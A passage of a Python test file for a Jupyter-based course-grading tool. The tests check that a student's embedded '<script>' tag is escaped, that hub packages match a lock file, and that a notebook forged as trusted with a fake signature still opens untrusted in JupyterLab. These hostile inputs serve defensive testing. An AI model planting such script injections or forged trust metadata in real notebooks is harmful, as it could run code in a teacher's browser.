    answer = next(cell.source for cell in cells if grading.grade_id(cell) == BY_HAND)
    assert answer == HARMLESS + "&lt;script>RUN&lt;/script>"
    assert cells[-1].source == show
    assert cells[-1].outputs[0].data["text/html"] == "<table><tbody><tr><td>kept</td></tr></tbody></table>"


def test_a_hub_installs_what_the_lock_names():
    binder = lessons.ROOT / "binder"
    lock = (binder / "requirements-course.txt").read_text(encoding="utf-8")
    needed = [f"{name}=={re.search(rf'^{name}==([^ ;]+)', lock, re.M)[1]}" for name in ("nh3", "jupyter-server-mathjax")]
    for file in ("README.md", "Dockerfile"):
        assert " ".join(needed) in (binder / "hub" / file).read_text(encoding="utf-8")


# ---------------------------------------------------------------- JupyterLab

@full
@needs_browser
def test_a_notebook_of_a_student_is_not_trusted_in_jupyterlab(teacher, server, course, outside):
    """This is Jupyter's own protection; ours is not in it, as the notebook lies as it was handed in."""
    notebook = sheet([name for name in TOGETHER if name in MARKDOWN or name in OUTPUTS], outside[0], str(course))
    notebook["metadata"].update(trusted=True, signature="sha256:0")
    for cell in notebook["cells"]:
        cell["metadata"]["trusted"] = True
    store(course, "untouched", notebook)
    address = f"{server}/lab/tree/autograded/untouched/{NAME}/{NAME}.ipynb?reset"
    with looking(teacher, address, outside, touch=False) as looked:
        looked.page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=OPEN_SECONDS * 1000)
        looked.page.wait_for_timeout(5000)
        # JupyterLab does load pictures from the web.
        assert set(looked.wrongs()) <= {"picture-elsewhere", "picture-tag"}
